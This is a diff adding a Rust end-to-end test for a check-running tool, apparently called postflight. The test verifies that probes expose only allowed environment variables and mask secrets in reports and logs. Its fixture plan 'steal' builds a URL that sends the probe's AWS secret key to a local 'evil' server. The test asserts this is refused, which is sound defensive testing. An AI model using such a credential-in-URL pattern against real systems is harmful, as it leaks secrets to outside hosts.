@@ -523,3 +523,105 @@ async fn probe_identities_are_bound_to_their_credentials() {
         }
     }
 }
+
+/// `${probe:VAR}` reads only what `--env-allow` exposes: a plan asking for the probe's cloud
+/// credentials in a URL is refused with the reason and the request never leaves; a
+/// secret-looking variable that is allowed (an API token) and that a service echoes back is
+/// masked in the report the coordinator stores.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn probes_expose_only_allowed_variables_and_mask_secret_ones() {
+    use std::sync::Arc;
+    use std::sync::atomic::{AtomicUsize, Ordering};
+    let dir = tempfile::tempdir().unwrap();
+    let hits = Arc::new(AtomicUsize::new(0));
+    let counted = hits.clone();
+    let evil = postflight_e2e::TestServer::start(axum::Router::new().fallback(move || {
+        counted.fetch_add(1, Ordering::SeqCst);
+        async { "thanks" }
+    }))
+    .await;
+    let echo = postflight_e2e::TestServer::start(axum::Router::new().route(
+        "/echo",
+        axum::routing::get(|headers: axum::http::HeaderMap| async move {
+            let sent = headers
+                .get("x-api")
+                .and_then(|v| v.to_str().ok())
+                .unwrap_or_default()
+                .to_owned();
+            format!("you sent {sent}")
+        }),
+    ))
+    .await;
+    let (_coordinator, url) = spawn_coordinator(
+        0,
+        &sqlite(dir.path()),
+        &[],
+        &dir.path().join("coordinator.log"),
+    );
+    let api_token = "api-3f9c2e7a51";
+    let _probe = spawn_probe(
+        &url,
+        "eu",
+        "eu-1",
+        &[
+            ("AWS_SECRET_ACCESS_KEY", "AKIA-leaked-credential"),
+            ("ECHO_URL", &echo.url("")),
+            ("POSTFLIGHT_API_TOKEN", api_token),
+        ],
+        &[],
+        &dir.path().join("probe.log"),
+    );
+    postflight_e2e::wait_for_probes(&url, 1);
+    let run = |name: &str, yaml: String| {
+        let path = dir.path().join(name);
+        std::fs::write(&path, yaml).unwrap();
+        let url = url.clone();
+        async move {
+            tokio::task::spawn_blocking(move || {
+                run_postflight(
+                    &[
+                        "run",
+                        path.to_str().unwrap(),
+                        "--coordinator",
+                        &url,
+                        "-o",
+                        "json",
+                        "--timeout",
+                        "20s",
+                    ],
+                    &[],
+                )
+            })
+            .await
+            .unwrap()
+        }
+    };
+    let stolen = run(
+        "steal.yaml",
+        format!(
+            "name: steal\nchecks:\n  - name: exfiltrate\n    http: {{url: \"{}/?k=${{probe:AWS_SECRET_ACCESS_KEY}}\"}}\npolicy: {{regions: [eu]}}\n",
+            evil.url("")
+        ),
+    )
+    .await;
+    assert_eq!(stolen.code, 4, "{}\n{}", stolen.stdout, stolen.stderr);
+    let said = format!("{}{}", stolen.stdout, stolen.stderr);
+    assert!(
+        said.contains("variable probe:AWS_SECRET_ACCESS_KEY may not be used here"),
+        "{said}"
+    );
+    assert!(!said.contains("AKIA"), "{said}");
+    assert_eq!(hits.load(Ordering::SeqCst), 0, "the request left the probe");
+
+    let echoed = run(
+        "echo.yaml",
+        "name: echo\nchecks:\n  - name: echoes\n    http:\n      url: \"${probe:ECHO_URL}/echo\"\n      headers: {X-Api: \"${probe:POSTFLIGHT_API_TOKEN}\"}\n      expect: {body_contains: [never-there]}\npolicy: {regions: [eu]}\n"
+            .to_owned(),
+    )
+    .await;
+    assert_eq!(echoed.code, 1, "{}\n{}", echoed.stdout, echoed.stderr);
+    assert!(echoed.stdout.contains("you sent ****"), "{}", echoed.stdout);
+    assert!(!echoed.stdout.contains(api_token), "{}", echoed.stdout);
+    let logged = std::fs::read_to_string(dir.path().join("coordinator.log")).unwrap();
+    assert!(!logged.contains(api_token) && !logged.contains("AKIA-leaked"));
+}
